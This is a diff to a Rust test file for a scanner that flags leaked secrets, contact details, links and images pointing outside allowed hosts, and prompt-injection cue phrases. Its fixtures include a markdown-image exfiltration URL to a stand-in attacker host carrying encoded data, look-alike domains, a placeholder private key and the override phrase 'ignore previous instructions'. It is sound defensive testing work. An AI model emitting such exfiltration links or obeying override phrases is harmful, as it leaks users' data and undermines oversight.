@@ -1,7 +1,7 @@
 use super::*;
 
 fn scanner() -> Scanner {
-    Scanner::new().unwrap()
+    Scanner::new(&["*.example.com".to_owned(), "example.org".to_owned()]).unwrap()
 }
 
 fn kinds(text: &str) -> Vec<&'static str> {
@@ -302,6 +302,123 @@ fn benign_results_have_no_findings() {
     ];
     let s = scanner();
     for text in corpus {
-        assert!(s.scan(text).is_empty(), "{text:?}: {:?}", s.scan(text));
+        // E-mail addresses and phone numbers are only ever flagged.
+        let found: Vec<_> = s
+            .scan(text)
+            .into_iter()
+            .filter(|f| !matches!(f.kind, Kind::Email | Kind::Phone))
+            .collect();
+        assert!(found.is_empty(), "{text:?}: {found:?}");
     }
+}
+
+#[test]
+fn a_password_assignment_counts_when_its_value_looks_generated() {
+    let v = "Zq8#rT2!vLw9@pX4";
+    for text in [
+        format!("password={v}"),
+        format!("DB_PASSWORD: \"{v}\""),
+        format!("{{\"client_secret\": \"{v}\"}}"),
+        format!("api_key = '{v}'"),
+    ] {
+        assert_eq!(covered(&text), vec![v.to_owned()], "{text}");
+    }
+    for benign in [
+        "password=hunter2",
+        "password=${DB_PASSWORD}",
+        "password: ********************",
+        "password=aaaaaaaaaaaaaaaa",
+        "reset your password: click the link",
+        "the secret of good code is tests",
+        "mypassword=Zq8#rT2!vLw9@pX4",
+    ] {
+        assert!(kinds(benign).is_empty(), "{benign}");
+    }
+}
+
+#[test]
+fn a_key_in_a_service_account_file_is_a_private_key() {
+    // GCP service-account JSON: the key is a PEM block with escaped newlines.
+    let json = [
+        r#"{"type": "service_account", "private_key": ""#,
+        "-----BEGIN ",
+        r#"PRIVATE KEY-----
+MIIEvQIBADANBgkqhkiG9w0BAQEFAASC
+-----END "#,
+        r#"PRIVATE KEY-----
+", "client_email": "x@p.iam.gserviceaccount.com"}"#,
+    ]
+    .concat();
+    assert!(kinds(&json).contains(&"private_key"), "{:?}", kinds(&json));
+}
+
+#[test]
+fn emails_and_international_phone_numbers_are_found() {
+    assert_eq!(
+        covered("mail olga.k+ops@corp.example.net today"),
+        vec!["olga.k+ops@corp.example.net"]
+    );
+    assert_eq!(covered("call +44 20 7946 0958."), vec!["+44 20 7946 0958"]);
+    assert_eq!(covered("call +1-202-555-0173"), vec!["+1-202-555-0173"]);
+    for benign in [
+        "@mention",
+        "user@localhost",
+        "a@b.c1",
+        "1+1=2",
+        "+12345",
+        "x+441234567890",
+    ] {
+        assert!(kinds(benign).is_empty(), "{benign}");
+    }
+}
+
+#[test]
+fn images_and_links_to_hosts_outside_the_allowed_ones_are_found() {
+    let evil = "https://attacker.test/log?q=c2VjcmV0";
+    assert_eq!(covered(&format!("![chart]({evil})")), vec![evil]);
+    assert_eq!(covered(&format!("see [docs]({evil}) now")), vec![evil]);
+    assert_eq!(covered(&format!("<img src=\"{evil}\">")), vec![evil]);
+    assert_eq!(covered(&format!("<a href='{evil}'>x</a>")), vec![evil]);
+    assert_eq!(
+        kinds("![x](//cdn.attacker.test/p.png)"),
+        vec!["foreign_link"]
+    );
+    assert_eq!(
+        kinds("![x](https://user@evil.test:8443/p.png)"),
+        vec!["foreign_link"]
+    );
+    // The allowed hosts, relative URLs, and bare URLs in prose are not.
+    for benign in [
+        "![x](https://img.example.com/a.png)",
+        "[docs](https://docs.example.com/guide)",
+        "[home](https://EXAMPLE.ORG/)",
+        "![x](/static/a.png)",
+        "[section](#install)",
+        "fetched https://attacker.test/page as asked",
+        "<img src=\"/logo.png\">",
+    ] {
+        assert!(kinds(benign).is_empty(), "{benign}");
+    }
+    // `*.example.com` is its subdomains, not look-alikes.
+    assert_eq!(
+        kinds("![x](https://example.com.attacker.test/a)"),
+        vec!["foreign_link"]
+    );
+    assert_eq!(
+        kinds("![x](https://notexample.com/a)"),
+        vec!["foreign_link"]
+    );
+}
+
+#[test]
+fn every_instruction_cue_is_found_as_whole_words_in_any_case() {
+    for cue in CUES {
+        let upper = cue.to_ascii_uppercase();
+        assert_eq!(
+            kinds(&format!("Note: {upper}. Then")),
+            vec!["instruction_cue"],
+            "{cue}"
+        );
+    }
+    assert!(kinds("we never ignore previous instructionsets").is_empty());
 }
